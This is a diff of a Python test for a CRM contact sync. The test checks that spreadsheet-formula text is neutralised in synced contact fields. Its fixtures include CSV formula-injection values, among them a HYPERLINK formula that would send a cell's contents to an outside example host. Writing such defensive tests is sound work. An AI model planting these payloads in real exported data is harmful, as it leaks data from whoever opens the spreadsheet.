@@ -52,6 +52,12 @@ def _loaded_contacts(world, account: str, count: int) -> list[tuple[dict, int]]:
     return [(contacts[email], sum(email in emails for emails in loaded.values())) for email in chosen]
 
 
+def _books_holding(world, account: str, email: str) -> int:
+    """How many of the account's address books hold the address now."""
+    books = world.actual_books(account, list(world.expected_books(account)))
+    return sum(email.strip().lower() in emails for emails in books.values())
+
+
 def _formula_like_values(world, account: str, changed: list[tuple[dict, int]]) -> int:
     """How many text values the sync of `changed` sends that begin like a formula, counted from the CRM rows."""
     text_attributes = {row["esc_attributename"] for row in world.rows("esc_emaildatamappings")
@@ -65,7 +71,7 @@ def _formula_like_values(world, account: str, changed: list[tuple[dict, int]]) -
 def test_text_that_begins_like_a_formula_is_stored_as_text_unless_the_account_turns_that_off(world, pipeline):
     account = world.contract["accounts"][0]["emailaccount_id"]
     assert pipeline.sync(account).success
-    (first, first_books), (second, _) = _loaded_contacts(world, account, 2)
+    (first, _), (second, _) = _loaded_contacts(world, account, 2)
     link = '=HYPERLINK("https://example.net/?"&A1,"open")'
     world.put_row("contacts", {"contactid": first["contactid"], "firstname": link, "lastname": "+1+1",
                                "numberofchildren": -5})
@@ -78,7 +84,9 @@ def test_text_that_begins_like_a_formula_is_stored_as_text_unless_the_account_tu
     assert stored["CHILDREN"] == -5, "a number stays a number"
     assert world.contact(account, second["emailaddress1"])["data"]["FIRSTNAME"] == "'@SUM(1)"
     neutralised = facts(protected)["address_book_members"]["values_neutralised"]
-    assert neutralised == _formula_like_values(world, account, [(first, first_books), (second, 1)]) >= 3
+    # counted in the books that hold each now: the change may have brought them into a dynamic list's query
+    held = [(person, _books_holding(world, account, person["emailaddress1"])) for person in (first, second)]
+    assert neutralised == _formula_like_values(world, account, held) >= 3
 
     world.put_row("esc_emailaccounts", {"esc_emailaccountid": account, "esc_csvformulaprotection": False})
     try:
